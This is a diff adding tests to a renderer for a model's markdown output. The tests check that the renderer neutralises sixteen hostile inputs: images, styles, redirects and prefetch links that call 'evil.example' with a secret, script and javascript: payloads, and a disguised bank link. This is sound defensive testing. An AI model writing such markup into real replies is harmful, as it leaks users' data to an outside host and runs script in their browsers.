@@ -34,6 +34,39 @@ describe('what a model writes', () => {
     },
   );
 
+  it.each([
+    ['an image by reference', '![a][b]\n\n[b]: https://evil.example/?secret'],
+    ['an image in a link', '[![a](https://evil.example/?secret)](https://evil.example/)'],
+    ['an image with a data address', '![a](data:image/svg+xml,<svg onload=alert(1)>)'],
+    ['a picture with several sources', '<img srcset="https://evil.example/a 1x">'],
+    ['a style sheet', '<style>@import "https://evil.example/a.css"</style>'],
+    ['a style', '<p style="background:url(https://evil.example/)">a</p>'],
+    ['a drawing', '<svg><image href="https://evil.example/a"/><script>alert(1)</script></svg>'],
+    ['a redirection', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
+    ['a new base', '<base href="https://evil.example/">'],
+    ['a name to look up', '<link rel="dns-prefetch" href="//secret.evil.example">'],
+    ['a link that pings', '<a href="https://example.com" ping="https://evil.example/">a</a>'],
+    ['a formula with an image', '\\(\\includegraphics{https://evil.example/a.png}\\)'],
+    ['a formula with a style', '\\(\\htmlStyle{background:url(https://evil.example/)}{a}\\)'],
+    ['a formula with a link', '$$\\href{javascript:alert(1)}{a}$$'],
+    ['a formula with an address', '$$\\url{https://evil.example/}$$'],
+    ['a diagram', '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```'],
+  ])('makes nothing of %s that the browser would load or run', (_, markdown) => {
+    const elements = html(markdown).match(/<[a-z][^>]*>/gi) ?? [];
+    expect(
+      elements.filter((element) => /\s(src|srcset|ping|action|on\w+)=|url\(|script:/i.test(element)),
+    ).toEqual([]);
+    expect(
+      elements.filter((element) =>
+        /^<(img|image|script|style|link|meta|base|iframe|object)\b/i.test(element),
+      ),
+    ).toEqual([]);
+  });
+
+  it('says where a link leads when its text says otherwise', () => {
+    expect(html('[https://bank.example](https://evil.example/)')).toContain('(evil.example)');
+  });
+
   it('shows code as it was written, with its language', () => {
     const rendered = html('```html\n<b>bold</b>\n```');
     expect(rendered).toContain('&lt;b&gt;bold&lt;/b&gt;');
